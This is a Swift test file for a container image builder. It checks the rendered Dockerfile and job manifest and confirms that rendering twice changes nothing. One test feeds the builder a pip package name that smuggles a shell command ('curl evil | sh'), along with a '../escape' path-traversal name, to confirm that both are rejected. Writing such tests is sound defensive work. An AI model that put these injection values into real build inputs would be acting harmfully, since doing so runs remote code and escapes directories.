import Foundation
import MirBuild
import MirModel
import Testing

@Suite struct RenderBuilderTests {
    @Test func writesDockerfileAndJobManifest() async throws {
        let directory = try Fixture.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let settings = BuilderSettings(buildNamespace: "builds")
        let builder = RenderBuilder(outputDirectory: directory, settings: settings)
        #expect(builder.name == "render")
        #expect(!builder.isSimulation)
        let resolved = try Fixture.resolved(Fixture.image("demo", pip: [PipRequirement(name: "numpy", versionSpecifier: ">=1.26")]))
        let request = Fixture.request(resolved)
        let record = try await builder.build(request)

        #expect(record.state == .submitted)
        #expect(record.builder == "render")
        #expect(record.simulated == false)
        #expect(record.image == "demo" && record.tag == resolved.tag)
        #expect(record.specDigest == resolved.specDigest)
        #expect(record.reason == "new")

        let folder = "\(directory)/demo/\(resolved.tag)"
        let dockerfile = try String(contentsOfFile: folder + "/Dockerfile", encoding: .utf8)
        #expect(dockerfile == (try BuildContextRenderer.dockerfile(for: request)))
        let manifest = try String(contentsOfFile: folder + "/job.yaml", encoding: .utf8)
        // Documents after "---" lines, each a JSON object equal to what the controller will create.
        let documents = manifest.components(separatedBy: "\n---\n").dropFirst().map(JSONValue.parse)
        #expect(documents.count == 2)
        #expect(documents[0] == (try BuildJobManifest.configMap(for: request, settings: settings)))
        #expect(documents[1] == (try BuildJobManifest.job(for: request, settings: settings)))
        #expect(!manifest.hasPrefix("{"))
    }

    @Test func renderingAgainIsIdempotent() async throws {
        let directory = try Fixture.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let builder = RenderBuilder(outputDirectory: directory)
        let resolved = try Fixture.resolved(Fixture.image("demo"))
        _ = try await builder.build(Fixture.request(resolved))
        let file = "\(directory)/demo/\(resolved.tag)/job.yaml"
        let before = try FileManager.default.attributesOfItem(atPath: file)[.modificationDate] as? Date
        let inode = try FileManager.default.attributesOfItem(atPath: file)[.systemFileNumber] as? Int
        let again = try await builder.build(Fixture.request(resolved))
        #expect(again.state == .submitted)
        let after = try FileManager.default.attributesOfItem(atPath: file)[.modificationDate] as? Date
        #expect(before == after)
        #expect(inode == (try FileManager.default.attributesOfItem(atPath: file)[.systemFileNumber] as? Int))
        // Exactly one build directory for the (image, tag).
        #expect(try FileManager.default.contentsOfDirectory(atPath: "\(directory)/demo") == [resolved.tag])
    }

    @Test func refusedInputWritesNothing() async throws {
        let directory = try Fixture.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let builder = RenderBuilder(outputDirectory: directory)
        await #expect(throws: BuildContextError.self) {
            _ = try await builder.build(Fixture.rawRequest(pip: [PipRequirement(name: "x; curl evil | sh")]))
        }
        await #expect(throws: BuildContextError.self) {
            _ = try await builder.build(Fixture.rawRequest(name: "../escape"))
        }
        #expect(try FileManager.default.contentsOfDirectory(atPath: directory).isEmpty)
    }
}
